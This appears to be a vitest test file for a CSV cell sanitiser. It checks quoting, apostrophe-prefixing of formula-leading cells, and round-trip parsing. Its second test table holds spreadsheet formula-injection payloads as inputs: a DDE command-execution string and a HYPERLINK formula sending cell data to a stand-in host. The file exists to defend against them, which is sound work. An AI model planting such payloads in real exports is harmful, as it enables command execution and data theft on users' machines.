import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { safeCsvCell, safeCsvRow } from './csv-cell.ts'

test.each([
  ['T1', 'T1'],
  ['', ''],
  ['a-b+c=d@e', 'a-b+c=d@e'],
  ['Smith, Jane', '"Smith, Jane"'],
  ['5" pipe', '"5"" pipe"'],
  ['two\nlines', '"two\nlines"'],
  [' blank', '" blank"'],
])('%j stays what it is: %s', (text, cell) => {
  expect(safeCsvCell(text)).toBe(cell)
})

test.each([
  ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ['=HYPERLINK("http://x/?"&A1,"y")', '"\'=HYPERLINK(""http://x/?""&A1,""y"")"'],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tx', "'\tx"],
  ['\rx', '"\'\rx"'],
  ['\nx', '"\'\nx"'],
  [' =1', "' =1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\uff1d1', "'\uff1d1"],
])('%j is no formula any more: %s', (text, cell) => {
  expect(safeCsvCell(text)).toBe(cell)
})

test('every row reads back as its cells, and no cell begins a formula', () => {
  const cells = fc.array(fc.string({ unit: fc.constantFrom(...'ab=+-@"\',\t\r\n ') }), {
    minLength: 1,
    maxLength: 5,
  })
  fc.assert(
    fc.property(cells, (texts) => {
      const [row = []] = parse(safeCsvRow(texts), { record_delimiter: '\r\n' })
      expect(row).toHaveLength(texts.length)
      row.forEach((cell, index) => {
        expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/)
        expect(cell.replace(/^'/, '')).toBe(texts[index]?.replace(/^'/, ''))
      })
    }),
    { numRuns: 1000 },
  )
})
